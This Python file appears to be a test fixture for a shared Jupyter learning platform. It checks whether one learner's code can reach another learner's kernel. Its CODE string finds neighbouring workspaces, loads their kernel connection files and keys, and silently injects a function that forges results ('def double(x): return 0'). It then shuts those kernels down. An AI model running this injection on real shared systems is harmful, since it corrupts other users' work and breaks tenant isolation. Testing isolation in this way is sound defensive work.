"""Another learner's kernel is told to run a cell, over its own sockets and with its key."""

FORGED = ("double-test",)
COMPANY = True
CODE = """
import pathlib

from jupyter_client.blocking.client import BlockingKernelClient

base = pathlib.Path.cwd().parents[2]
for sign in base.glob("*/s/work/attackmark-neighbour"):
    client = BlockingKernelClient()
    client.load_connection_file(str(sign.parents[2] / "k" / "kernel.json"))
    client.start_channels()
    client.execute("def double(x): return 0", silent=True)
    client.control_channel.send(client.session.msg("shutdown_request", {"restart": False}))
    import time

    time.sleep(1)
    client.stop_channels()
double = None
"""
